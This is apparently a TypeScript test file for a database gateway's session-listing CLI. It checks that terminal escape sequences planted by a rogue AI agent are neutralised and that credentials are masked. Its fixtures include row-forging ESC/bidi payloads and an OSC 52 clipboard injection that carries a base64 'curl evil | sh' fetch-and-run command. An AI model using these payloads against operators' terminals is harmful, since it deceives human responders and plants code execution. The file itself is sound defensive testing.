// A rogue agent writes to the responder's terminal: `regate sessions list` prints the application_name the
// agent chose at startup and the SQL it is running. ESC would erase the agent's own row and draw another
// agent's in its place (the responder then kills the wrong session), OSC 52 would set the responder's
// clipboard, a line break would forge a row. What reaches the terminal is marked text, one row per session.
// A credential regate holds that the agent types there (its own token, another agent's) is replaced in the
// sessions API, the CLI and the kill's audit line, as recordings and decision logs replace it.
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sessionsCommand } from "../../src/cli/sessions.js";
import { startPostgres, type TestPostgres } from "../support/postgres.js";
import type { TestRegate } from "../support/regate.js";
import { admin, OTHER, RESPONDER, running, startIncidentRegate, until } from "./support.js";
import { AGENT } from "../support/regate.js";

let db: TestPostgres;
let regate: TestRegate;

beforeAll(async () => {
  db = await startPostgres();
  regate = await startIncidentRegate(db);
}, 120_000);

afterAll(async () => {
  await regate?.stop();
  await db?.stop();
});

function cli(args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = "";
  let err = "";
  const io = { out: (s: string) => (out += s), err: (s: string) => (err += s) };
  return sessionsCommand([...args, "--url", `http://127.0.0.1:${regate.app.ports.admin}`], { REGATE_RESPONDER_TOKEN: RESPONDER.token }, io).then((code) => ({ code, out, err }));
}

async function agent(applicationName: string): Promise<pg.Client> {
  const c = new pg.Client({ connectionString: regate.url(), application_name: applicationName });
  c.on("error", () => undefined);
  await c.connect();
  return c;
}

/** What a terminal acts on instead of showing: C0 (but the CLI's own line ends), DEL, C1, line separators, bidi controls. */
const ACTS_ON_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

// ESC[2K + CR erase the row so far; a line break then starts a forged row; RLO reorders what follows.
const FORGED_APP = "report\x1b[2K\r\n00000000-0000-4000-8000-000000000000  other-agent       127.0.0.1:40000        idle\u202e";
// OSC 52: "set the clipboard to `curl evil | sh`", ended by BEL; C1 CSI (U+009B) as well.
const CLIPBOARD_SQL = "SELECT pg_sleep(30) /* \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \u009b2J */";

describe("regate sessions list shows what an agent chose, never runs it", () => {
  it("one marked row per session: no escape sequence, line break or bidi control from the agent reaches the terminal", async () => {
    const c = await agent(FORGED_APP);
    try {
      const sleeping = c.query(CLIPBOARD_SQL).catch((e: Error) => e);
      await until(async () => (await running(db, CLIPBOARD_SQL)) === 1);
      const listed = await cli(["list"]);
      expect(listed.code).toBe(0);
      const rows = listed.out.split("\n").filter(Boolean);
      const mine = regate.app.sessions.all()[0]!.info.id;
      expect(rows).toHaveLength(1);
      expect(rows[0]!.startsWith(`${mine}  test-agent`)).toBe(true);
      expect(listed.out).not.toMatch(ACTS_ON_TERMINAL);
      expect(rows[0]).toContain("app report⟨U+001B⟩[2K⟨U+000D⟩");
      expect(rows[0]).toContain("⟨U+202E⟩");
      expect(rows[0]).toContain("pg_sleep(30) /* ⟨U+001B⟩]52;c;");

      // --json: the same values, exactly, for tools; the characters a terminal acts on are JSON escapes.
      const json = await cli(["list", "--json"]);
      expect(json.out).not.toMatch(ACTS_ON_TERMINAL);
      const parsed = JSON.parse(json.out) as { id: string; application_name: string; current: { sql: string } }[];
      expect(parsed.find((s) => s.id === mine)).toMatchObject({ application_name: FORGED_APP, current: { sql: CLIPBOARD_SQL } });

      const killed = await cli(["kill", mine, "--reason", "terminal escapes in application_name"]);
      expect(killed).toMatchObject({ code: 0, out: `${mine} killed by ${RESPONDER.name}\n` });
      expect(((await sleeping) as pg.DatabaseError).code).toBe("57P01");
    } finally {
      await c.end().catch(() => undefined);
    }
  });

  it("must stay as it was: a plain application_name and statement print as they are", async () => {
    const c = await agent("nightly-report");
    try {
      const sleeping = c.query("SELECT pg_sleep(30)").catch((e: Error) => e);
      await until(async () => (await running(db, "SELECT pg_sleep(30)")) === 1);
      const listed = await cli(["list"]);
      const mine = regate.app.sessions.all()[0]!.info.id;
      expect(listed.out).toMatch(new RegExp(`^${mine}  test-agent +127\\.0\\.0\\.1:\\d+ +idle +since \\S+  app nightly-report  running \\d+ms: SELECT pg_sleep\\(30\\)\\n$`));
      await cli(["kill", mine, "--reason", "done"]);
      await sleeping;
    } finally {
      await c.end().catch(() => undefined);
    }
  });
});

describe("a credential regate holds, typed where responders read", () => {
  it("is replaced in GET /sessions, in regate sessions list and in the kill's audit line; the kill works", async () => {
    const sql = `SELECT pg_sleep(30) /* ${OTHER.token} ${RESPONDER.token} */`;
    const c = await agent(`app-${AGENT.token}`);
    try {
      const sleeping = c.query(sql).catch((e: Error) => e);
      await until(async () => (await running(db, sql)) === 1);
      const mine = regate.app.sessions.all()[0]!.info.id;
      const listed = await admin(regate, "GET", "/sessions");
      expect(listed.body.sessions).toEqual([expect.objectContaining({ id: mine, application_name: "app-****", current: expect.objectContaining({ sql: "SELECT pg_sleep(30) /* **** **** */" }) })]);
      const printed = await cli(["list"]);
      expect(printed.out).toContain("app app-****  running");
      const killed = await admin(regate, "POST", `/sessions/${mine}/kill`, { reason: "credentials in a statement" });
      expect(killed.status).toBe(200);
      expect(((await sleeping) as pg.DatabaseError).code).toBe("57P01");
      const audit = regate.logs().split("\n").find((l) => l.includes('"session_killed"') && l.includes(mine));
      expect(audit && JSON.parse(audit)).toMatchObject({ statement: "SELECT pg_sleep(30) /* **** **** */", by: RESPONDER.name });
      for (const secret of [AGENT.token, OTHER.token, RESPONDER.token]) {
        expect(JSON.stringify(listed.body)).not.toContain(secret);
        expect(printed.out).not.toContain(secret);
        expect(audit).not.toContain(secret);
      }
    } finally {
      await c.end().catch(() => undefined);
    }
  });
});
